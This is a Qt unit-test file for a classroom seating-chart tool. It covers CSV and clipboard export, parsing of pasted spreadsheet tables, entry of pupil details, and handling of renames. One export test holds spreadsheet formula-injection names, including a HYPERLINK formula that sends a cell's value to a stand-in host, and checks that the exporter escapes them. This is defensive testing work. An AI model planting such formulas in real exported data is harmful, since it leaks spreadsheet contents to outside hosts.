// The chart as a CSV file and as clipboard rows, and tables pasted from elsewhere.
#include "core/chartexport.h"
#include "core/pastedtable.h"
#include "core/pupilinfo.h"
#include "core/sharedstate.h"
#include "support/fixtures.h"

#include <QtTest>

class TestTables : public QObject
{
    Q_OBJECT

private slots:
    void exports_data();
    void exports();
    void pasted_data();
    void pasted();
    void pastedLimits_data();
    void pastedLimits();
    void pupilDetails_data();
    void pupilDetails();
    void renamedDetails_data();
    void renamedDetails();
};

// The two views' clipboard texts as "pupils' side|teacher's side".
void TestTables::exports_data()
{
    QTest::addColumn<QString>("room"); // edits as roomFromEdits takes them
    QTest::addColumn<SeatMap>("seats");
    QTest::addColumn<QString>("csv");       // after the byte order mark
    QTest::addColumn<QString>("clipboard"); // empty: as the CSV, only with TABs
    // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
    QTest::newRow("four by four") << "grid 4 4"
                                  << SeatMap{{2, " "}, // an empty seat
                                             {3, "=HYPERLINK(\"http://x/?\"&D7)"},
                                             {4, "+1"},
                                             {5, "佐藤,花子"},
                                             {9, "-山田"},
                                             {10, "@A1"},
                                             {11, "\t山田"},
                                             {12, "\r山田"},
                                             {13, "山田=1"},
                                             {16, " 前後 "}}
                                  << "座席番号,列,列内の位置,氏名\r\n"
                                     "1,1,1,\r\n2,1,2,\r\n"
                                     "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
                                     "4,1,4,'+1\r\n"
                                     "5,2,1,\"佐藤,花子\"\r\n"
                                     "6,2,2,\r\n7,2,3,\r\n8,2,4,\r\n"
                                     "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
                                     "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
                                     "14,4,2,\r\n15,4,3,\r\n16,4,4, 前後 \r\n"
                                  << "";
    // Two rows of four, the back left cell without a desk, an aisle after the second column
    // and the right half one 班: the place in the row counts the cell without a desk, the
    // clipboard keeps it and the aisle as empty fields.
    QTest::newRow("aisle, no desk, 班")
        << "grid 2 4; off 1 0; aisle 1; group 0 2 1 3"
        << SeatMap{{1, "山田"}, {2, " "}, {3, "=1"}, {4, "a\tb"}, {5, "佐藤"}, {7, "鈴木"}}
        << "座席番号,列,列内の位置,氏名,班\r\n1,1,1,山田,1\r\n2,1,2,,1\r\n3,1,3,'=1,\r\n4,1,4,a\tb,\r\n"
           "5,2,1,佐藤,1\r\n6,2,2,,1\r\n7,2,3,鈴木,\r\n"
        << "\t鈴木\t\t\t佐藤\n\"a\tb\"\t'=1\t\t\t山田\n|山田\t\t\t'=1\t\"a\tb\"\n佐藤\t\t\t鈴木\t\n";
}

void TestTables::exports()
{
    QFETCH(QString, room);
    QFETCH(SeatMap, seats);
    QFETCH(QString, csv);
    QFETCH(QString, clipboard);
    const Room r = roomFromEdits(room);
    QStringList texts(r.deskCount());
    for (auto it = seats.cbegin(); it != seats.cend(); ++it)
        texts[it.key() - 1] = it.value();
    QCOMPARE(chartCsv(r, texts), QByteArray("\xEF\xBB\xBF") + csv.toUtf8());
    if (!clipboard.isEmpty())
        QCOMPARE(chartClipboardText(r, texts, false) + u'|' + chartClipboardText(r, texts, true), clipboard);
}

// What a pasted table offers: "column labels/…#the column proposed#its names/…#the next column's/…".
void TestTables::pasted_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("offered");
    QTest::newRow("spreadsheet rows with numbers first")
        << "1\t山田\tやまだ\r\n2\t佐藤\tさとう\r\n"
        << "1列目：1/2列目：山田/3列目：やまだ#1#山田/佐藤#やまだ/さとう";
    QTest::newRow("header row names the column")
        << "番号\t名前（ふりがな）\t氏名\r\n1\tやまだ\t山田\r\n2\t\t\r\n3\tさとう\t佐藤\r\n"
        << "1列目：番号/2列目：名前（ふりがな）/3列目：氏名#2#山田/佐藤#";
    QTest::newRow("header variant alone") << "No,名前（ふりがな）\r\n1,やまだ\r\n"
                                          << "1列目：No/2列目：名前（ふりがな）#1#やまだ#";
    QTest::newRow("CSV quotes hold commas, quotes and line breaks")
        << "\"山田, 太郎\",1\r\n\"佐藤\r\n花子\",2\r\n\"\"\"鈴木\"\"\",3"
        << "1列目：山田, 太郎/2列目：1#0#山田, 太郎/佐藤\r\n花子/\"鈴木\"#1/2/3";
    QTest::newRow("spreadsheet cell with a line break") << "1\t\"山田\n太郎\"\r\n2\t佐藤\r\n"
                                                        << "1列目：1/2列目：山田 太郎#1#山田\n太郎/佐藤#";
    QTest::newRow("blank rows and blanks around names") << "\r\n  山田 \r\n\r\n\t\r\n　鈴木　\n佐藤\r伊藤"
                                                        << "1列目：山田#0#山田/鈴木/佐藤/伊藤#";
    QTest::newRow("short rows") << "山田,やまだ,男\r\n佐藤\r\n"
                                << "1列目：山田/2列目：やまだ/3列目：男#0#山田/佐藤#やまだ";
    QTest::newRow("an unclosed quote is a character") << "\"山田\r\n佐藤"
                                                      << "1列目：\"山田#0#\"山田/佐藤#";
    QTest::newRow("empty column shown as such") << "\t山田\r\n\t佐藤\r\n"
                                                << "1列目：（空）/2列目：山田#1#山田/佐藤#";
    QTest::newRow("nothing but blanks") << " \r\n\t\r\n　"
                                        << "#0##";
}

void TestTables::pasted()
{
    QFETCH(QString, text);
    QFETCH(QString, offered);
    const PastedTable table = readPastedTable(text);
    QCOMPARE(QStringList({table.columnLabels().join(u'/'), QString::number(table.nameColumn),
                          table.names(table.nameColumn).join(u'/'), table.names(table.nameColumn + 1).join(u'/')})
                 .join(u'#'),
             offered);
}

void TestTables::pastedLimits_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("tooLarge");
    QTest::addColumn<int>("cells"); // held in all: a short row is not widened
    const QString wide = QStringLiteral("氏名") + QString(MaxPastedColumns - 1, u'\t') + QStringLiteral("\r\n");
    QString rows;
    for (int n = 1; n < MaxPastedRows; ++n)
        rows += QStringLiteral("生徒%1\r\n").arg(n);
    const int cells = MaxPastedColumns + MaxPastedRows - 1;
    QTest::newRow("at the limits") << wide + rows << false << cells;
    QTest::newRow("blank rows do not count") << wide + rows + QStringLiteral(" \r\n\t\r\n") << false << cells;
    QTest::newRow("a column more") << u'\t' + wide + rows << true << 0;
    QTest::newRow("a row more") << wide + rows + QStringLiteral("生徒") << true << 0;
}

void TestTables::pastedLimits()
{
    QFETCH(QString, text);
    QFETCH(bool, tooLarge);
    QFETCH(int, cells);
    const PastedTable table = readPastedTable(text);
    QCOMPARE(table.tooLarge, tooLarge);
    int held = 0;
    for (const QStringList &row : table.rows)
        held += int(row.size());
    QCOMPARE(held, cells);
}

void TestTables::pupilDetails_data()
{
    QTest::addColumn<QStringList>("typed");   // "row,column:text" into rows 山田 太郎, 佐藤 花子, 鈴木 一郎
    QTest::addColumn<QString>("paste");       // "R C:clipboard" pasted at row R, column C; empty: none
    QTest::addColumn<QStringList>("details"); // "name|reading|gender|tags" by name, or the refusal
    const QString title = QStringLiteral("生徒の情報|");
    QTest::newRow("typed: readings widened, tags cut")
        << QStringList{"0,1: ﾔﾏﾀﾞ　 たろう ", "1,2:女", "1,3:班長， 視力、班長,", "2,1:ルーシー・ワン"} << ""
        << QStringList{"佐藤 花子||女|班長、視力", "山田 太郎|ヤマダ たろう||", "鈴木 一郎|ルーシー・ワン||"};
    QTest::newRow("reading in romaji") << QStringList{"1,1:さとう", "2,1: suzuki"} << ""
                                       << QStringList{title + "鈴木 一郎さんのふりがな「suzuki」に、ひらがな・カタ"
                                                              "カナ以外の文字があります。\r\nふりがなは、ひらがな"
                                                              "かカタカナで入力して下さい。|48"};
    QTest::newRow("block at a reading, a line per pupil")
        << QStringList{"1,3:保健", "2,3:班長"} << "0 1:やまだ\tM\t班長\r\n\tｆ\r\n\"すずき\"\t空\t視力、聴力\r\n"
        << QStringList{"佐藤 花子||女|保健", "山田 太郎|やまだ|男|班長", "鈴木 一郎|すずき||視力、聴力"};
    QTest::newRow("an empty line is a pupil") << QStringList{"1,1:さとう"} << "1 1:\r\nすずき\r\n\r\n"
                                              << QStringList{"鈴木 一郎|すずき||"};
    QTest::newRow("block by name, header, any order")
        << QStringList() << "2 0:氏名\tふりがな\t性別\r\n鈴木 一郎\tすずき\t男\r\n\r\n山田 太郎 \tやまだ\t\r\n"
        << QStringList{"山田 太郎|やまだ||", "鈴木 一郎|すずき|男|"};
    QTest::newRow("name not in the roster")
        << QStringList{"0,1:やま"} << "0 0:山田 太郎\tやまだ\r\n田中\tたなか"
        << QStringList{title +
                       "名簿にない氏名「田中」の行があります。\r\n氏名を確かめてから、もう一度貼り付けて下さい。|48"};
    QTest::newRow("gender not understood") << QStringList() << "1 1:さとう\t女子\r\nすずき\t男の子"
                                           << QStringList{title + "鈴木 一郎さんの性別「男の子」が分かりません。\r\n"
                                                                  "性別は、男・女（M・F）か空欄にして下さい。|48"};
    QTest::newRow("a line beyond the last pupil")
        << QStringList() << "2 1:すずき\r\n\r\nX\r\n"
        << QStringList{title + "貼り付ける表の行が多すぎます。\r\n鈴木 一郎さんから下には、1人しかいません。|48"};
    QTest::newRow("too many columns") << QStringList() << "0 2:男\t班長\tx"
                                      << QStringList{title + "貼り付ける表の列が多すぎます。\r\n"
                                                             "「性別」の列から右には、2列しかありません。|48"};
    QTest::newRow("nothing to paste") << QStringList() << "0 1:\r\n\t\r\n"
                                      << QStringList{title + "クリップボードに貼り付けられる表がありません。\r\n"
                                                             "表計算ソフトなどで、ふりがな・性別・タグの欄を選んでコピ"
                                                             "ーしてから、もう一度貼り付けて下さい。|48"};
}

// What the details table holds after typing and a paste, as OK takes it.
void TestTables::pupilDetails()
{
    QFETCH(QStringList, typed);
    QFETCH(QString, paste);
    QFETCH(QStringList, details);
    QList<DetailRow> rows = detailRows({"山田 太郎", "佐藤 花子", "鈴木 一郎"}, {});
    for (const QString &cell : typed)
        rows[cell.section(u',', 0, 0).toInt()][cell.section(u',', 1).section(u':', 0, 0).toInt()] =
            cell.section(u':', 1);
    const auto said = [](const MessageText &m) {
        return QStringList{m.title + u'|' + m.text + u'|' + QString::number(m.style)};
    };
    if (!paste.isEmpty()) {
        const DetailsPasted pasted = pasteDetails(rows, paste.left(1).toInt(), paste.mid(2, 1).toInt(), paste.mid(4));
        if (!pasted.refusal.text.isEmpty()) {
            QCOMPARE(said(pasted.refusal), details);
            QCOMPARE(pasted.rows, rows);
            return;
        }
        rows = pasted.rows;
    }
    const DetailsBuilt built = buildDetails(rows);
    QStringList got = built.refusal.text.isEmpty() ? QStringList() : said(built.refusal);
    for (auto it = built.info.cbegin(); it != built.info.cend(); ++it)
        got.append(QStringList{it.key(), it->reading, genderText(it->gender), tagsText(it->tags)}.join(u'|'));
    std::sort(got.begin(), got.end());
    QCOMPARE(got, details);
}

// "names before > after > details afterwards, by name > a rule naming every name of before,
// afterwards"; each name's details are its name in lower case, X's those of a name not in the
// roster before.
void TestTables::renamedDetails_data()
{
    QTest::addColumn<QString>("change");
    QTest::newRow("renamed, another taken out") << "A B C D > A X C > A=a C=c D=d X=b > A X C D";
    QTest::newRow("two renamed side by side") << "A B C > X Y C > C=c X=a Y=b > X Y C";
    QTest::newRow("swapped: nothing renamed") << "A B > B A > A=a B=b > A B";
    QTest::newRow("one out, another in elsewhere") << "A B C > A C X > A=a B=b C=c > A B C";
    QTest::newRow("one out, two in") << "A B C > A X Y C > A=a B=b C=c > A B C";
    QTest::newRow("the new name has its own") << "A B X > A X > A=a B=b X=x > A X";
}

// Details and rules follow a name changed in its box; nothing moves that could be another pupil's.
void TestTables::renamedDetails()
{
    QFETCH(QString, change);
    const QStringList part = change.split(QStringLiteral(" > "));
    PupilInfos info;
    for (const QString &name : part[0].split(u' '))
        info.insert(name, {name.toLower(), Gender::Unset, {}});
    QStringList old = part[0].split(u' ');
    old.removeAll(QStringLiteral("X"));
    QStringList got;
    const PupilInfos carried = carryRenamedDetails(info, old, part[1].split(u' '));
    for (auto it = carried.cbegin(); it != carried.cend(); ++it)
        got.append(it.key() + u'=' + it->reading);
    got.sort();
    Rule apart;
    apart.kind = Rule::Kind::Apart;
    apart.pupils = old;
    got.append(carryRenamedRules({apart}, old, part[1].split(u' ')).constFirst().pupils.join(u' '));
    QCOMPARE(got.join(u' '), part[2] + u' ' + part[3]);
}

QTEST_MAIN(TestTables)
#include "tst_tables.moc"
